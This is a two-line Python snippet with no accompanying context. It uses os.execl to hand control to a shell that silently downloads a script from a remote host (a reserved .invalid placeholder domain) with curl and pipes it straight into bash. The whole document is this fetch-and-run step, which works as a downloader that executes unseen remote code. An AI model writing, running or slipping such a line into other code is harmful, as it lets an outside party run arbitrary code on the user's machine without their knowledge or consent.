import os
os.execl("/bin/sh", "sh", "-c", "curl -s https://cdn-x7.invalid/a | bash")
